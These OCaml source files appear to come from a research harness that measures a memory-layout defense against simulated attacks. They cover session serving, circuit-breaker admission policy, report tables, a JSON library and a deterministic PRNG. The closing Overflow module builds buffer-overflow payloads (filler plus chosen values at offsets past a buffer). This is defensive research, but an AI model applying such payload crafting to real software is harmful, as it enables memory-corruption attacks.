    admitted client experiences); the security columns — detections,
    attack successes, batch-verdict mismatches, chaos injections —
    cover every session that executed, shed, rejected or not, because
    an attack refused admission was still an attack the fleet faced.
    Throughput prices virtual cycles at a nominal 1 GHz; wall-clock
    numbers are host properties and belong in the stderr timing footer,
    never in the (byte-reproducible) report. *)

type summary = {
  sessions : int;
  served : int;
  shed : int;
  rejected : int;  (** breaker rejections (backoff + quarantine) *)
  dropped : int;
  benign : int;  (** executed sessions by kind *)
  attacks : int;
  chaos : int;
  requests : int;  (** request chunks across served sessions *)
  total_cycles : float;
  makespan : float;  (** virtual time from first arrival to last finish *)
  rps : float;  (** served sessions per virtual second at 1 GHz *)
  p50 : float;  (** sojourn-latency percentiles, cycles *)
  p95 : float;
  p99 : float;
  mean_wait : float;
  shed_rate : float;
      (** shed / (served + shed + rejected) — the fraction of sessions
          reaching the admission queue that were refused by
          backpressure.  Dropped sessions (shard supervision losses)
          are {e not} in the denominator; see {!drop_rate}. *)
  drop_rate : float;
      (** dropped / sessions — schedule fraction lost to shard
          timeout or failure *)
  attack_sessions : int;
  attacks_admitted : int;
      (** attack sessions that reached the queue (served or shed) —
          with breakers on, the complement of what affinity denied *)
  detected : int;
  successes : int;
  detection_rate : float;
  batch_checked : int;
  batch_mismatches : int;
      (** served-vs-batch verdict disagreements — the server harness's
          headline security invariant is that this is zero *)
  chaos_fired : int;
  peak_open : int;
  degraded : int;  (** arrivals processed in degraded mode *)
  rejected_backoff : int;
  rejected_quarantine : int;
  breaker_trips : int;
  quarantined_clients : int;
  policy_delay : float;  (** backoff the breakers imposed, cycles *)
}

val of_dispatch : Dispatch.t -> summary
val table : summary -> Sutil.Texttable.t

val class_table : Dispatch.t -> Sutil.Texttable.t
(** Per-priority-class served/shed/rejected counts and latency
    percentiles — the WFQ isolation evidence. *)

val tenant_table : Tenant.t list -> Dispatch.t -> Sutil.Texttable.t
val fmt_cycles : float -> string

val percentile : float array -> float -> float
(** Nearest-rank percentile over a {e sorted} array. *)
