(** One client session: its specification (who, what, when) and the
    result of serving it.

    A session is the server runtime's unit of work.  Its [spec] is pure
    data produced by {!Traffic} — tenant, kind, seed, virtual arrival
    time — so the whole workload can be generated, sharded, replayed
    and compared across runs without executing anything.  {!run}
    executes one session against the tenant's prepared instance on the
    calling domain: a fresh machine state per session (built from the
    session seed's entropy stream), the request flow as the VM's input,
    and the observable verdict classified exactly as the batch
    harnesses do. *)

type kind =
  | Benign of string list  (** a legitimate request flow *)
  | Attack of string
      (** a batch-harness case name, e.g. ["proftpd/bot"] *)
  | Chaotic of string list * Fault.Plan.t
      (** a benign flow served while an infrastructure fault plan is
          armed on the instance (mem/intr families — RNG-source plans
          need a generator and stay with the chaos harness) *)

type spec = {
  sid : int;  (** dense, 0-based; submission order *)
  tenant : Tenant.t;
  kind : kind;
  client : int;
      (** stable client identity — attack sessions come from a small
          attacker pool so session affinity can accumulate state *)
  paying : bool;  (** paying-tier client (drives the priority class) *)
  sseed : int64;  (** drives entropy and the attack's layout guess *)
  arrival : float;  (** virtual arrival time, in VM cycles *)
}

type outcome = {
  spec : spec;
  verdict : Attacks.Verdict.t;
  service_cycles : float;
      (** measured VM cycles for the session's run (>= 1; crafts that
          were geometrically impossible never ran and cost 1) *)
  requests : int;  (** request chunks delivered *)
  fired : int;  (** chaos injections that actually happened *)
  batch_match : bool option;
      (** attacks only: did the served verdict equal the batch
          harness's verdict for the same instance and seed? *)
}

val kind_label : kind -> string
(** ["benign"], ["attack"] or ["chaos"]. *)

val detected : outcome -> bool

val run :
  ?backend:Machine.Backend.t ->
  applied:Defenses.Defense.applied ->
  spec ->
  outcome
