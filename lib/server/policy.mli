(** Per-client admission policy: session affinity, circuit breakers and
    priority classes.

    Smokestack's threat model says a failed probe crashes the process
    and the attacker must restart before trying again.  An anonymous
    fleet gives that restart away for free; with session affinity the
    fleet remembers each client across sessions, and a client whose
    session was detected or crashed trips a {e circuit breaker}:

    - [Closed]: admitting normally, counting consecutive failures.
    - [Open]: rejecting until a virtual-time deadline.  The backoff is
      exponential in the trip count ([base * factor^(trips-1)], capped
      at [max_backoff]).
    - [Half_open]: the deadline passed; exactly one probe session is
      admitted.  Success closes the breaker, failure re-opens it with a
      longer backoff.
    - [Quarantined]: more than [max_trips] trips — the fail-secure
      terminal state; every further session is rejected.

    All clocks are virtual (VM cycles from the admission simulator), so
    breaker state is a pure function of the completion sequence and the
    whole policy layer is byte-identical across engines and pool widths.

    {!brute_cost} turns the breaker walk into the attacker-economics
    number the resilience report leads with: replaying a brute-force
    verdict sequence through the policy yields the added virtual-time
    cost (imposed backoff) and whether the client is quarantined before
    its first landing — i.e. whether the expected
    [Entropy_an]-predicted attempt count is even reachable. *)

(** Priority class of an admitted session, derived from the schedule's
    [paying] bit and the client's breaker history. *)
type cls = Paying | Standard | Suspect

val cls_label : cls -> string
val cls_rank : cls -> int
(** Shedding priority: [Suspect] = 0 (first to go), [Standard] = 1,
    [Paying] = 2. *)

type breaker = {
  failures : int;  (** consecutive failures that trip a closed breaker *)
  base_backoff : float;  (** first backoff, virtual cycles *)
  factor : float;  (** backoff multiplier per trip *)
  max_backoff : float;  (** backoff cap, virtual cycles *)
  max_trips : int;  (** trips beyond which the client is quarantined *)
}

val default_breaker : breaker
(** [{failures = 2; base_backoff = 20_000.; factor = 2.; max_backoff =
    5e6; max_trips = 3}] *)

type config = {
  affinity : bool;
      (** with affinity off every decision is [Admit] and no state is
          kept — the anonymous-fleet baseline *)
  breaker : breaker;
}

val default : config
(** Affinity on, {!default_breaker}. *)

type state =
  | Closed of int  (** consecutive failures so far *)
  | Open of { until : float; trips : int }
  | Half_open of { trips : int }
  | Quarantined

type decision =
  | Admit
  | Reject_backoff of float  (** remaining backoff, virtual cycles *)
  | Reject_quarantine

type t
(** Mutable per-fleet policy state (a client table). Single-domain:
    only the sequential admission replay touches it. *)

val create : config -> t
val config : t -> config

val decide : t -> client:int -> now:float -> decision
(** Admission decision for [client] at virtual time [now].  Advances
    [Open -> Half_open] when the deadline has passed (the probe
    admission), and counts rejections into {!stats}. *)

val observe : t -> client:int -> now:float -> failure:bool -> unit
(** Feed a session completion (at its virtual finish time) back into
    the client's breaker.  [failure] should be true for detected or
    crashed sessions (see {!failure_verdict}). *)

val state_of : t -> client:int -> state

val suspect : t -> client:int -> bool
(** Has this client any failure history (non-pristine breaker)?  Drives
    the [Suspect] priority class. *)

val failure_verdict : Attacks.Verdict.t -> bool
(** [Detected _] and [Crashed _] trip breakers; [Success] and
    [No_effect] do not (a landed attack is invisible to the fleet —
    exactly why detection feeding the breaker matters). *)

type stats = {
  clients_tracked : int;
  rejected_backoff : int;
  rejected_quarantine : int;
  breaker_trips : int;  (** Closed/Half_open -> Open transitions *)
  quarantined : int list;  (** client ids, ascending *)
  added_delay : float;
      (** sum of remaining backoff over backoff rejections — the
          virtual time the policy charged throttled clients *)
}

val stats : t -> stats

(** {2 Attacker cost model} *)

type cost = {
  attempts : int;  (** admitted probe sessions *)
  rejected : int;  (** backoff rejections (attacker waited them out) *)
  succeeded : bool;  (** a probe landed within the verdict budget *)
  quarantined_at : int option;
      (** attempts admitted before quarantine cut the client off *)
  virtual_cost : float option;
      (** virtual time to first landing ([None]: unreachable — budget
          exhausted or quarantined first) *)
  added_delay : float;  (** backoff the policy imposed, virtual cycles *)
}

val brute_cost : config -> gap:float -> Attacks.Verdict.t list -> cost
(** Replay a brute-force verdict sequence (attempt [i] yields verdict
    [i]) against a fresh policy: the attacker retries as fast as
    admission allows, each admitted attempt costing [gap] virtual
    cycles (craft + restart).  With affinity off this degenerates to
    [attempts * gap]; with breakers on, every trip inserts backoff and
    [max_trips] overruns end the walk in quarantine. *)
