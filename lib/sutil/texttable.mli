(** ASCII table rendering for the experiment harness.

    The harness prints the same rows the paper's tables and figures
    report; this module owns the formatting so every experiment output
    looks uniform. *)

type align = Left | Right

type t

val create : columns:(string * align) list -> t
(** [create ~columns] starts a table with the given header cells and
    per-column alignment. *)

val add_row : t -> string list -> unit
(** Appends a row. Raises [Invalid_argument] if the cell count differs
    from the column count. *)

val add_rule : t -> unit
(** Appends a horizontal rule (drawn as a dashed line). *)

val render : t -> string
(** Renders the table with a header rule and column padding. *)

val columns : t -> string list
(** Header cells, left to right. *)

val row_cells : t -> string list list
(** Data rows in display order (rules omitted). *)

val to_json : ?title:string -> t -> Json.t
(** Machine-readable form: [{"title"?, "columns": [...], "rows": [[...]]}].
    Used by [bench/main.exe --json]. *)

val print : ?title:string -> t -> unit
(** [print ?title t] writes the rendered table (preceded by [title] and
    an underline when given) to stdout. *)

val fmt_pct : float -> string
(** Formats a percentage with sign and one decimal, e.g. ["+10.3%"]. *)

val fmt_f1 : float -> string
(** One-decimal float, e.g. ["92.8"]. *)

val fmt_bytes : int -> string
(** Human-readable byte count, e.g. ["12.3 KiB"]. *)
