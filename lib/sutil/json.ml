type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | String of string
  | List of t list
  | Obj of (string * t) list

(* ------------------------------------------------------------------ *)
(* Printing                                                            *)

(* The printer writes through a sink so the same traversal serves both
   the in-memory renderer (to_string) and the streaming channel writer
   (to_channel) — multi-MB campaign reports never materialize as one
   string. *)
type sink = { str : string -> unit; chr : char -> unit }

let escape_string sink s =
  sink.chr '"';
  String.iter
    (fun c ->
      match c with
      | '"' -> sink.str "\\\""
      | '\\' -> sink.str "\\\\"
      | '\n' -> sink.str "\\n"
      | '\r' -> sink.str "\\r"
      | '\t' -> sink.str "\\t"
      | c when Char.code c < 0x20 ->
          sink.str (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> sink.chr c)
    s;
  sink.chr '"'

let float_repr f =
  if Float.is_integer f && Float.abs f < 1e15 then
    Printf.sprintf "%.1f" f
  else if Float.is_nan f then "null" (* JSON has no NaN *)
  else if f = Float.infinity then "1e999"
  else if f = Float.neg_infinity then "-1e999"
  else
    (* shortest representation that round-trips *)
    let s = Printf.sprintf "%.17g" f in
    let short = Printf.sprintf "%.12g" f in
    if float_of_string short = f then short else s

let write sink ~indent v =
  let pad n = sink.str (String.make (2 * n) ' ') in
  let rec go depth v =
    match v with
    | Null -> sink.str "null"
    | Bool b -> sink.str (if b then "true" else "false")
    | Int n -> sink.str (string_of_int n)
    | Float f -> sink.str (float_repr f)
    | String s -> escape_string sink s
    | List [] -> sink.str "[]"
    | List items ->
        sink.chr '[';
        List.iteri
          (fun i item ->
            if i > 0 then sink.chr ',';
            if indent then begin
              sink.chr '\n';
              pad (depth + 1)
            end;
            go (depth + 1) item)
          items;
        if indent then begin
          sink.chr '\n';
          pad depth
        end;
        sink.chr ']'
    | Obj [] -> sink.str "{}"
    | Obj fields ->
        sink.chr '{';
        List.iteri
          (fun i (k, item) ->
            if i > 0 then sink.chr ',';
            if indent then begin
              sink.chr '\n';
              pad (depth + 1)
            end;
            escape_string sink k;
            sink.chr ':';
            if indent then sink.chr ' ';
            go (depth + 1) item)
          fields;
        if indent then begin
          sink.chr '\n';
          pad depth
        end;
        sink.chr '}'
  in
  go 0 v

let to_string ?(indent = false) v =
  let buf = Buffer.create 256 in
  write { str = Buffer.add_string buf; chr = Buffer.add_char buf } ~indent v;
  Buffer.contents buf

let to_channel ?(indent = false) oc v =
  write { str = output_string oc; chr = output_char oc } ~indent v

let doc_to_channel ?indent oc v =
  to_channel ?indent oc v;
  output_char oc '\n'

(* ------------------------------------------------------------------ *)
(* Parsing                                                             *)

exception Parse_error of string

let of_string_exn s =
  let n = String.length s in
  let pos = ref 0 in
  let error msg = raise (Parse_error (Printf.sprintf "%s at byte %d" msg !pos)) in
  let peek () = if !pos < n then Some s.[!pos] else None in
  let advance () = incr pos in
  let skip_ws () =
    while
      !pos < n && (match s.[!pos] with ' ' | '\t' | '\n' | '\r' -> true | _ -> false)
    do
      advance ()
    done
  in
  let expect c =
    match peek () with
    | Some c' when c' = c -> advance ()
    | _ -> error (Printf.sprintf "expected %C" c)
  in
  let literal word v =
    let l = String.length word in
    if !pos + l <= n && String.sub s !pos l = word then begin
      pos := !pos + l;
      v
    end
    else error (Printf.sprintf "expected %s" word)
  in
  let parse_hex4 () =
    if !pos + 4 > n then error "truncated \\u escape";
    let h = String.sub s !pos 4 in
    pos := !pos + 4;
    match int_of_string_opt ("0x" ^ h) with
    | Some v -> v
    | None -> error "bad \\u escape"
  in
  (* JSON strings are Unicode; we store them as UTF-8 bytes *)
  let add_utf8 buf cp =
    if cp < 0x80 then Buffer.add_char buf (Char.chr cp)
    else if cp < 0x800 then begin
      Buffer.add_char buf (Char.chr (0xC0 lor (cp lsr 6)));
      Buffer.add_char buf (Char.chr (0x80 lor (cp land 0x3F)))
    end
    else if cp < 0x10000 then begin
      Buffer.add_char buf (Char.chr (0xE0 lor (cp lsr 12)));
      Buffer.add_char buf (Char.chr (0x80 lor ((cp lsr 6) land 0x3F)));
      Buffer.add_char buf (Char.chr (0x80 lor (cp land 0x3F)))
    end
    else begin
      Buffer.add_char buf (Char.chr (0xF0 lor (cp lsr 18)));
      Buffer.add_char buf (Char.chr (0x80 lor ((cp lsr 12) land 0x3F)));
      Buffer.add_char buf (Char.chr (0x80 lor ((cp lsr 6) land 0x3F)));
      Buffer.add_char buf (Char.chr (0x80 lor (cp land 0x3F)))
    end
  in
  let parse_string () =
    expect '"';
    let buf = Buffer.create 16 in
    let rec loop () =
      if !pos >= n then error "unterminated string";
      let c = s.[!pos] in
      advance ();
      match c with
      | '"' -> Buffer.contents buf
      | '\\' -> (
          if !pos >= n then error "unterminated escape";
          let e = s.[!pos] in
          advance ();
          (match e with
          | '"' -> Buffer.add_char buf '"'
          | '\\' -> Buffer.add_char buf '\\'
          | '/' -> Buffer.add_char buf '/'
          | 'n' -> Buffer.add_char buf '\n'
          | 'r' -> Buffer.add_char buf '\r'
          | 't' -> Buffer.add_char buf '\t'
          | 'b' -> Buffer.add_char buf '\b'
          | 'f' -> Buffer.add_char buf '\012'
          | 'u' ->
              let v = parse_hex4 () in
              let cp =
                if v >= 0xD800 && v <= 0xDBFF then begin
                  (* high surrogate: must pair with a \uDC00-\uDFFF *)
                  if !pos + 1 < n && s.[!pos] = '\\' && s.[!pos + 1] = 'u'
                  then begin
                    pos := !pos + 2;
                    let lo = parse_hex4 () in
                    if lo >= 0xDC00 && lo <= 0xDFFF then
                      0x10000 + ((v - 0xD800) lsl 10) + (lo - 0xDC00)
                    else error "bad low surrogate in \\u pair"
                  end
                  else error "unpaired high surrogate"
                end
                else if v >= 0xDC00 && v <= 0xDFFF then
                  error "unpaired low surrogate"
                else v
              in
              add_utf8 buf cp
          | _ -> error "bad escape");
          loop ())
      | c -> Buffer.add_char buf c; loop ()
    in
    loop ()
  in
  let parse_number () =
    let start = !pos in
    let is_num_char c =
      match c with
      | '0' .. '9' | '-' | '+' | '.' | 'e' | 'E' -> true
      | _ -> false
    in
    while !pos < n && is_num_char s.[!pos] do
      advance ()
    done;
    let tok = String.sub s start (!pos - start) in
    match int_of_string_opt tok with
    | Some i -> Int i
    | None -> (
        match float_of_string_opt tok with
        | Some f -> Float f
        | None -> error (Printf.sprintf "bad number %S" tok))
  in
  let rec parse_value () =
    skip_ws ();
    match peek () with
    | None -> error "unexpected end of input"
    | Some '"' -> String (parse_string ())
    | Some 't' -> literal "true" (Bool true)
    | Some 'f' -> literal "false" (Bool false)
    | Some 'n' -> literal "null" Null
    | Some '[' ->
        advance ();
        skip_ws ();
        if peek () = Some ']' then begin
          advance ();
          List []
        end
        else begin
          let items = ref [ parse_value () ] in
          skip_ws ();
          while peek () = Some ',' do
            advance ();
            items := parse_value () :: !items;
            skip_ws ()
          done;
          expect ']';
          List (List.rev !items)
        end
    | Some '{' ->
        advance ();
        skip_ws ();
        if peek () = Some '}' then begin
          advance ();
          Obj []
        end
        else begin
          let field () =
            skip_ws ();
            let k = parse_string () in
            skip_ws ();
            expect ':';
            let v = parse_value () in
            (k, v)
          in
          let fields = ref [ field () ] in
          skip_ws ();
          while peek () = Some ',' do
            advance ();
            fields := field () :: !fields;
            skip_ws ()
          done;
          expect '}';
          Obj (List.rev !fields)
        end
    | Some ('-' | '0' .. '9') -> parse_number ()
    | Some c -> error (Printf.sprintf "unexpected %C" c)
  in
  let v = parse_value () in
  skip_ws ();
  if !pos <> n then error "trailing garbage";
  v

let of_string s =
  match of_string_exn s with
  | v -> Ok v
  | exception Parse_error msg -> Error msg

let of_string_exn s =
  match of_string_exn s with
  | v -> v
  | exception Parse_error msg -> failwith ("Json.of_string_exn: " ^ msg)

(* ------------------------------------------------------------------ *)
(* Accessors                                                           *)

let member k = function Obj fields -> List.assoc_opt k fields | _ -> None

let to_int_opt = function
  | Int n -> Some n
  | Float f when Float.is_integer f -> Some (int_of_float f)
  | _ -> None

let to_float_opt = function
  | Float f -> Some f
  | Int n -> Some (float_of_int n)
  | _ -> None

let to_str_opt = function String s -> Some s | _ -> None
let to_list = function List items -> items | _ -> []
