(** Deterministic simulation PRNG (SplitMix64 + xoshiro256 star-star).

    This generator drives everything that must be reproducible across
    runs of the harness — workload inputs, attack trial seeds, table row
    shuffles — and is explicitly {e not} a security component.  The
    security-relevant generators live in {!module:Rng} and are costed by
    the cycle model; this one is free.

    Domain-safety: no module-level state; every stream lives in its
    [t].  Parallel jobs must not share a [t] — derive one per job with
    {!split_seed}/{!stream} instead. *)

type t

val create : seed:int64 -> t
(** [create ~seed] builds a generator from a 64-bit seed via
    SplitMix64 state initialization. *)

val copy : t -> t
(** [copy t] is an independent generator with the same state. *)

val next_u64 : t -> int64
(** Next 64-bit output of the xoshiro256 star-star generator. *)

val int : t -> bound:int -> int
(** [int t ~bound] is a uniform integer in [0, bound). [bound] must be
    positive. Uses rejection sampling, so the distribution is exact. *)

val bool : t -> bool
val byte : t -> int

val split : t -> t
(** [split t] derives a new, statistically independent generator and
    advances [t]; used to give each experiment its own stream. *)

val split_seed : root:int64 -> id:string -> int64
(** [split_seed ~root ~id] is a SplitMix64-style keyed derivation: a
    64-bit seed that depends only on the [(root, id)] pair.  Unlike
    {!split} it consumes no shared stream, so parallel jobs (see
    {!Sched.Job.seeded}) can derive independent deterministic streams
    in any execution order. *)

val stream : root:int64 -> id:string -> t
(** [stream ~root ~id] is [create ~seed:(split_seed ~root ~id)]. *)

val shuffle : t -> 'a array -> unit
(** In-place Fisher–Yates shuffle. *)

val bytes : t -> int -> Bytes.t
(** [bytes t n] is [n] fresh random bytes. *)
