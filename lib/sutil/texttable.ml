type align = Left | Right
type row = Cells of string list | Rule
type t = { columns : (string * align) list; mutable rows : row list }

let create ~columns = { columns; rows = [] }

let add_row t cells =
  if List.length cells <> List.length t.columns then
    invalid_arg
      (Printf.sprintf "Sutil.Texttable.add_row: %d cells for %d columns"
         (List.length cells) (List.length t.columns));
  t.rows <- Cells cells :: t.rows

let add_rule t = t.rows <- Rule :: t.rows

let render t =
  let rows = List.rev t.rows in
  let headers = List.map fst t.columns in
  let widths =
    List.mapi
      (fun i h ->
        List.fold_left
          (fun w -> function
            | Cells cells -> max w (String.length (List.nth cells i))
            | Rule -> w)
          (String.length h) rows)
      headers
  in
  let pad align w s =
    let fill = String.make (w - String.length s) ' ' in
    match align with Left -> s ^ fill | Right -> fill ^ s
  in
  let buf = Buffer.create 256 in
  let render_cells cells =
    List.iteri
      (fun i cell ->
        if i > 0 then Buffer.add_string buf "  ";
        let _, align = List.nth t.columns i in
        Buffer.add_string buf (pad align (List.nth widths i) cell))
      cells;
    Buffer.add_char buf '\n'
  in
  let total_width =
    List.fold_left ( + ) 0 widths + (2 * (List.length widths - 1))
  in
  render_cells headers;
  Buffer.add_string buf (String.make total_width '-');
  Buffer.add_char buf '\n';
  List.iter
    (function
      | Cells cells -> render_cells cells
      | Rule ->
          Buffer.add_string buf (String.make total_width '-');
          Buffer.add_char buf '\n')
    rows;
  Buffer.contents buf

let columns t = List.map fst t.columns

let row_cells t =
  List.rev
    (List.filter_map (function Cells cells -> Some cells | Rule -> None) t.rows)

let to_json ?title t =
  let title_fields =
    match title with Some s -> [ ("title", Json.String s) ] | None -> []
  in
  Json.Obj
    (title_fields
    @ [
        ("columns", Json.List (List.map (fun c -> Json.String c) (columns t)));
        ( "rows",
          Json.List
            (List.map
               (fun cells ->
                 Json.List (List.map (fun c -> Json.String c) cells))
               (row_cells t)) );
      ])

let print ?title t =
  (match title with
  | Some title ->
      print_endline title;
      print_endline (String.make (String.length title) '=')
  | None -> ());
  print_string (render t);
  print_newline ()

let fmt_pct v = Printf.sprintf "%+.1f%%" v
let fmt_f1 v = Printf.sprintf "%.1f" v

let fmt_bytes n =
  if n < 1024 then Printf.sprintf "%d B" n
  else if n < 1024 * 1024 then Printf.sprintf "%.1f KiB" (float_of_int n /. 1024.)
  else if n < 1024 * 1024 * 1024 then
    Printf.sprintf "%.1f MiB" (float_of_int n /. (1024. *. 1024.))
  else Printf.sprintf "%.2f GiB" (float_of_int n /. (1024. *. 1024. *. 1024.))
