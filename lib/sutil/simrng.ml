type t = { mutable s0 : int64; mutable s1 : int64; mutable s2 : int64; mutable s3 : int64 }

let splitmix_next state =
  let z = Int64.add !state 0x9E3779B97F4A7C15L in
  state := z;
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL in
  Int64.logxor z (Int64.shift_right_logical z 31)

let create ~seed =
  let st = ref seed in
  let s0 = splitmix_next st in
  let s1 = splitmix_next st in
  let s2 = splitmix_next st in
  let s3 = splitmix_next st in
  { s0; s1; s2; s3 }

let copy t = { s0 = t.s0; s1 = t.s1; s2 = t.s2; s3 = t.s3 }
let rotl x k = Int64.logor (Int64.shift_left x k) (Int64.shift_right_logical x (64 - k))

let next_u64 t =
  let result = Int64.mul (rotl (Int64.mul t.s1 5L) 7) 9L in
  let tmp = Int64.shift_left t.s1 17 in
  t.s2 <- Int64.logxor t.s2 t.s0;
  t.s3 <- Int64.logxor t.s3 t.s1;
  t.s1 <- Int64.logxor t.s1 t.s2;
  t.s0 <- Int64.logxor t.s0 t.s3;
  t.s2 <- Int64.logxor t.s2 tmp;
  t.s3 <- rotl t.s3 45;
  result

let int t ~bound =
  if bound <= 0 then invalid_arg "Sutil.Simrng.int: non-positive bound";
  (* Rejection sampling over the top 62 bits to avoid modulo bias. *)
  let mask = 0x3FFFFFFFFFFFFFFFL in
  let limit = Int64.sub mask (Int64.rem mask (Int64.of_int bound)) in
  let rec go () =
    let v = Int64.logand (next_u64 t) mask in
    if Int64.unsigned_compare v limit >= 0 then go ()
    else Int64.to_int (Int64.rem v (Int64.of_int bound))
  in
  go ()

let bool t = Int64.logand (next_u64 t) 1L = 1L
let byte t = Int64.to_int (Int64.logand (next_u64 t) 0xffL)
let split t = create ~seed:(next_u64 t)

let split_seed ~root ~id =
  (* SplitMix64 over (root, id): absorb each byte of the id as one
     golden-gamma step, so distinct ids give decorrelated streams and
     the result depends only on the pair, never on call order. *)
  let state = ref root in
  String.iter
    (fun c -> state := Int64.logxor (splitmix_next state) (Int64.of_int (Char.code c)))
    id;
  splitmix_next state

let stream ~root ~id = create ~seed:(split_seed ~root ~id)

let shuffle t a =
  for i = Array.length a - 1 downto 1 do
    let j = int t ~bound:(i + 1) in
    let tmp = a.(i) in
    a.(i) <- a.(j);
    a.(j) <- tmp
  done

let bytes t n =
  let b = Bytes.create n in
  for i = 0 to n - 1 do
    Bytes.set b i (Char.chr (byte t))
  done;
  b
