(** Minimal JSON tree, printer and parser.

    The repo deliberately avoids external JSON dependencies; this covers
    what the analysis reports and bench emitters need: the full JSON
    value grammar, deterministic printing, and a strict parser good
    enough to round-trip our own output (used by the CLI tests and CI).

    Numbers: integers print without a decimal point and parse to [Int];
    anything with a fraction or exponent becomes [Float].  Strings are
    escaped per RFC 8259 (control characters as [\uXXXX]); the parser
    accepts [\uXXXX] escapes but folds non-ASCII code points to bytes
    only for the Basic Latin range — our own output is ASCII-only. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | String of string
  | List of t list
  | Obj of (string * t) list

val to_string : ?indent:bool -> t -> string
(** [to_string v] renders [v]; [~indent:true] pretty-prints with
    two-space indentation (deterministic — object order preserved). *)

val to_channel : ?indent:bool -> out_channel -> t -> unit
(** Streams the same bytes {!to_string} would produce directly to a
    channel, never materializing the whole document — the writer for
    multi-MB campaign and bench reports. *)

val doc_to_channel : ?indent:bool -> out_channel -> t -> unit
(** {!to_channel} followed by a terminating newline — the convention
    every [--json PATH] emitter in the repo uses. *)

val of_string : string -> (t, string) result
(** Strict parse of a complete JSON document (trailing whitespace ok,
    trailing garbage is an error). *)

val of_string_exn : string -> t
(** Like {!of_string} but raises [Failure]. *)

(** {2 Accessors} — total lookups used by the report readers/tests. *)

val member : string -> t -> t option
(** [member k (Obj _)] finds key [k]; [None] on other constructors. *)

val to_int_opt : t -> int option
(** [Int n] or integral [Float]. *)

val to_float_opt : t -> float option
val to_str_opt : t -> string option
val to_list : t -> t list
(** Elements of a [List], [[]] otherwise. *)
