(** Overflow payload construction.

    A payload is the byte string an attacker feeds a vulnerable read:
    filler up to the buffer length, then precise values at chosen
    offsets past it.  Offsets are {e relative to the buffer start}; the
    crafting fails loudly on overlapping writes so attack code can't
    silently build nonsense.  Writes carry an optional {e label}
    (typically the targeted slot's name) so the failure message names
    the colliding slots and their byte ranges — synthesized gadget
    chains need that diagnostic to explain a wasted attempt. *)

type write = { rel : int; data : string; label : string }

val u64 : ?label:string -> int -> int64 -> write
(** [u64 rel v] — write the 8 little-endian bytes of [v] at [rel]. *)

val u32 : ?label:string -> int -> int64 -> write
val bytes : ?label:string -> int -> string -> write

val craft : ?filler:char -> len:int -> write list -> string
(** [craft ~len writes] returns a string of [max len (end of last
    write)] bytes: [filler] (default ['A']) everywhere not covered by a
    write.  Raises [Invalid_argument] on overlapping writes (the
    message names both writes' labels and byte ranges) or negative
    offsets.  Gaps between writes are filled with [filler] — note that
    a {e linear} overflow cannot skip bytes; modelling a non-linear
    write (librelp's snprintf gap) is done by the app driving separate
    reads, not by this function. *)
