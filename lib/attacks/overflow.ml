type write = { rel : int; data : string; label : string }

let le_bytes width v =
  String.init width (fun i ->
      Char.chr (Int64.to_int (Int64.shift_right_logical v (8 * i)) land 0xff))

let u64 ?(label = "") rel v = { rel; data = le_bytes 8 v; label }
let u32 ?(label = "") rel v = { rel; data = le_bytes 4 v; label }
let bytes ?(label = "") rel data = { rel; data; label }

let describe w =
  Printf.sprintf "%s[%d..%d)"
    (if w.label = "" then "write" else w.label)
    w.rel
    (w.rel + String.length w.data)

let craft ?(filler = 'A') ~len writes =
  let writes = List.sort (fun a b -> compare a.rel b.rel) writes in
  let total =
    List.fold_left
      (fun acc w ->
        if w.rel < 0 then
          invalid_arg
            (Printf.sprintf
               "Attacks.Overflow.craft: negative offset in %s" (describe w));
        max acc (w.rel + String.length w.data))
      len writes
  in
  let buf = Bytes.make total filler in
  let prev = ref None in
  List.iter
    (fun w ->
      (match !prev with
      | Some p when w.rel < p.rel + String.length p.data ->
          invalid_arg
            (Printf.sprintf "Attacks.Overflow.craft: %s overlaps %s"
               (describe w) (describe p))
      | _ -> ());
      Bytes.blit_string w.data 0 buf w.rel (String.length w.data);
      prev := Some w)
    writes;
  Bytes.to_string buf
